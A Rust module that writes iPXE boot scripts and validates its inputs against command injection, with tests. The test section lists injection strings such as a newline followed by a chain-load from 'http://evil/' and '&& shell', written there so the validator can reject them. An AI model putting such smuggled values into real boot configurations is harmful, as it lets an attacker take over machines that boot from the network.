//! Writes iPXE scripts that boot an image. Pure: no I/O.
//!
//! iPXE has no way to quote a value: `${…}` is replaced, `&&` and `||` end a command, `#` begins a comment, and a backslash
//! at the end of a line joins two. A value with any of these gets no script.

/// The longest boot parameters, in bytes: Linux takes no more on most architectures.
pub const LONGEST_PARAMETERS: usize = 4096;

/// What a script boots.
#[derive(Debug, Clone, Copy)]
pub struct Boot<'a> {
    /// What the script is for, for people who read it.
    pub title: &'a str,
    /// The address of the image's root file system.
    pub rootfs: &'a str,
    /// Whether the image has an initial RAM disk.
    pub has_initrd: bool,
    /// The image's boot parameters.
    pub parameters: &'a str,
}

/// The script. Kernel and initial RAM disk are named relative to its own address.
///
/// # Errors
///
/// One sentence: iPXE would take a part of a value for something else.
pub fn script(boot: &Boot<'_>) -> Result<String, String> {
    let parameters = boot.parameters.trim();
    if parameters.len() > LONGEST_PARAMETERS {
        return Err(format!(
            "The image's boot parameters have more than {LONGEST_PARAMETERS} bytes."
        ));
    }
    for value in [boot.title, boot.rootfs, parameters] {
        check(value)?;
    }
    let has_root = parameters
        .split_ascii_whitespace()
        .any(|word| word.starts_with("root="));
    let mut line = "kernel kernel".to_owned();
    if boot.has_initrd {
        line.push_str(" initrd=initrd");
    }
    if !has_root {
        line.push_str(" root=live:");
        line.push_str(boot.rootfs);
        line.push_str(" rd.live.overlay.overlayfs=1");
    }
    if !parameters.is_empty() {
        line.push(' ');
        line.push_str(parameters);
    }
    let initrd = if boot.has_initrd {
        "initrd --name initrd initrd\n"
    } else {
        ""
    };
    Ok(format!("#!ipxe\n# {}\n{line}\n{initrd}boot\n", boot.title))
}

fn check(value: &str) -> Result<(), String> {
    if !value.bytes().all(|byte| byte == b' ' || byte.is_ascii_graphic()) {
        return Err(
            "A value for the script has characters that are not printable ASCII, or more than one line.".to_owned(),
        );
    }
    let means_something = |word: &str| matches!(word, "&&" | "||") || word.starts_with('#');
    if value.contains("${") || value.ends_with('\\') || value.split(' ').any(means_something) {
        return Err("A value for the script has `${`, `&&`, `||`, `#` or `\\` where iPXE would act on it.".to_owned());
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const BOOT: Boot<'_> = Boot {
        title: "compute 24.11 x86_64",
        rootfs: "http://kiln:9000/kiln/v1/catalogue/compute/versions/24.11/x86_64/rootfs",
        has_initrd: true,
        parameters: "console=ttyS0,115200 quiet\n",
    };

    #[test]
    fn a_script_boots_what_lies_beside_it() {
        let script = script(&BOOT).unwrap();
        assert_eq!(
            script,
            "#!ipxe\n# compute 24.11 x86_64\nkernel kernel initrd=initrd \
             root=live:http://kiln:9000/kiln/v1/catalogue/compute/versions/24.11/x86_64/rootfs \
             rd.live.overlay.overlayfs=1 console=ttyS0,115200 quiet\ninitrd --name initrd initrd\nboot\n"
        );
        let own_root = Boot {
            parameters: "root=/dev/vda",
            has_initrd: false,
            ..BOOT
        };
        let script = super::script(&own_root).unwrap();
        assert_eq!(
            script,
            "#!ipxe\n# compute 24.11 x86_64\nkernel kernel root=/dev/vda\nboot\n"
        );
    }

    #[test]
    fn no_value_becomes_a_command() {
        let long = "x".repeat(LONGEST_PARAMETERS + 1);
        for parameters in [
            "quiet\nchain http://evil/",
            "a=${net0/mac}",
            "quiet && shell",
            "quiet || shell",
            "quiet #",
            "quiet \\",
            "\u{202e}quiet",
            "a\tb",
            "nul\0",
            &long,
        ] {
            let boot = Boot { parameters, ..BOOT };
            assert!(script(&boot).is_err(), "{parameters:?}");
        }
        assert!(
            script(&Boot {
                rootfs: "http://x/\nshell",
                ..BOOT
            })
            .is_err()
        );
        assert!(
            script(&Boot {
                parameters: "a=b#c x&&y",
                ..BOOT
            })
            .is_ok(),
            "no words of their own"
        );
    }
}
